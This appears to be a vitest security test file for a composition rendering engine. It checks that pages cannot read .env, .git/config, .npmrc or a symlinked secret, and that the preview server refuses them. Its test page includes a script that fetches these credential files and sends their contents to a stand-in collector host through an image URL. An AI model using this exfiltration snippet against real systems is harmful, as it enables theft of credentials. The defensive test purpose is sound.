import {mkdir, mkdtemp, rm, symlink, writeFile} from 'node:fs/promises'
import {createServer, type Server} from 'node:http'
import type {AddressInfo} from 'node:net'
import {tmpdir} from 'node:os'
import {join} from 'node:path'
import {afterAll, beforeAll, describe, expect, it} from 'vitest'
import {startPreviewServer, type PreviewServer} from '../../src/lib/preview/preview-server.js'
import {renderComposition} from '../../src/lib/render/render-composition.js'
import type {RenderEvent} from '../../src/lib/render/render-events.js'
import {resolveRenderOptions} from '../../src/lib/render/resolve-options.js'
import {near, pixelAt} from '../support/media.js'
import {rawRequest} from './support/raw-http.js'
import {PROCESSES} from '../support/timeouts.js'

/**
 * The case: a template deep in a repository (repo/templates/promo/2026/x/) whose project
 * root is the repository. Its page reads repo/.env and repo/.git/config and sends them to
 * a "public" host through an image URL; the host must receive nothing, and the frame (red if a
 * read worked) stays green.
 */
const SECRET = 'AWS_SECRET=hunter2'

let repo: string
let template: string
let collector: {server: Server; port: number; requests: string[]}

beforeAll(async () => {
  repo = await mkdtemp(join(tmpdir(), 'engine-dot-files-'))
  template = join(repo, 'templates', 'promo', '2026', 'x')
  await mkdir(join(repo, '.git'), {recursive: true})
  await mkdir(template, {recursive: true})
  await writeFile(join(repo, 'package.json'), '{}')
  await writeFile(join(repo, '.env'), SECRET)
  await writeFile(join(repo, '.git', 'config'), `[remote "origin"]\n  url = https://user:${SECRET}@example.com/x.git\n`)
  await writeFile(join(repo, '.npmrc'), `//registry.npmjs.org/:_authToken=${SECRET}`)
  await mkdir(join(repo, '.private'))
  await writeFile(join(repo, '.private', 'sub.html'), '<div data-composition-id="s" data-width="160" data-height="90" data-duration="0.5"></div>')
  await symlink(join(repo, '.env'), join(template, 'innocent.txt'))
  const requests: string[] = []
  const server = createServer((request, response) => {
    requests.push(decodeURIComponent(request.url ?? ''))
    response.writeHead(200, {'Content-Type': 'image/svg+xml'}).end('<svg xmlns="http://www.w3.org/2000/svg" width="1" height="1"/>')
  })
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.2', resolve))
  collector = {server, port: (server.address() as AddressInfo).port, requests}
  process.env.ENGINE_HOST_RESOLVER_RULES = 'MAP collector.example.test 127.0.0.2'
})

afterAll(async () => {
  delete process.env.ENGINE_HOST_RESOLVER_RULES
  collector?.server.close()
  await rm(repo, {recursive: true, force: true})
})

const page = (body: string, script: string) => `<!doctype html><html><head><style>html, body { margin: 0 }</style></head><body>
<div data-composition-id="main" data-width="160" data-height="90" data-duration="0.5">
  <div id="fill" style="position: absolute; inset: 0; background: #00ff00"></div>${body}
</div>
<script>
  const exfiltrate = (text) => {
    document.getElementById('fill').style.background = '#ff0000'
    new Image().src = 'http://collector.example.test:${'${PORT}'}/leak?d=' + encodeURIComponent(text)
  }
  const steal = (url) => fetch(url).then((r) => r.ok ? r.text() : '').then((text) => text && exfiltrate(text), () => {})
  ${script}
</script></body></html>`

async function render(html: string) {
  const file = join(template, 'index.html')
  await writeFile(file, html.replace('${PORT}', String(collector.port)))
  const events: RenderEvent[] = []
  const result = await renderComposition({
    composition: file,
    options: resolveRenderOptions({quality: 'draft', workers: 1, output: join(repo, 'out.mp4')}),
    onEvent: (event) => events.push(event),
  })
  const warnings = events.flatMap((event) => (event.type === 'warning' ? [{code: event.code, message: event.message}] : []))
  return {result, warnings}
}

describe('dot-files and dot-folders are never served to a page', PROCESSES, () => {
  it('/.env, ../../../../.git/config, /.npmrc and a link to .env are blocked and reported; nothing leaves', async () => {
    const {result, warnings} = await render(
      page('', `steal('/.env'); steal('../../../../.git/config'); steal('/.npmrc'); steal('innocent.txt'); steal('/%2Eenv')`),
    )
    expect(near(await pixelAt(result.output, 0, 80, 45), {r: 0, g: 255, b: 0})).toBe(true)
    expect(collector.requests.filter((url) => url.includes('hunter2'))).toEqual([])
    const blocked = warnings.filter((warning) => warning.code === 'blocked-request').map((warning) => warning.message)
    for (const name of ['/.env', '.git/config', '/.npmrc', 'innocent.txt']) {
      expect(blocked.some((message) => message.includes(name) && message.includes('dot-files and dot-folders')), name).toBe(true)
    }
  })

  it('the project root far above the composition is named in a warning', async () => {
    const {warnings} = await render(page('', ''))
    expect(warnings).toContainEqual({
      code: 'project-root-far',
      message: expect.stringMatching(new RegExp(`the project of this composition is ${repo}, 4 folders above it .* put a package.json beside the composition`)),
    })
  })

  it('a sub-composition in a dot-folder is refused like one outside the project', async () => {
    await expect(render(page('<div data-composition-src="../../../../.private/sub.html"></div>', ''))).rejects.toMatchObject({
      code: 'PATH_OUTSIDE_ROOT',
      message: expect.stringMatching(/never dot-files or dot-folders/),
    })
  })

  it('engine preview serves no dot-file either, and names no absolute path in its answer', async () => {
    let preview: PreviewServer | undefined
    try {
      preview = await startPreviewServer({composition: join(template, 'index.html'), port: 0, fps: {num: 30, den: 1}})
      for (const path of ['.env', '.git/config', 'templates/promo/2026/x/innocent.txt']) {
        const response = await rawRequest(`${preview.url}${path}`)
        expect(response.status, path).toBe(403)
        expect(response.body).not.toContain('hunter2')
        expect(response.body).not.toContain(repo)
      }
    } finally {
      await preview?.close()
    }
  })
})
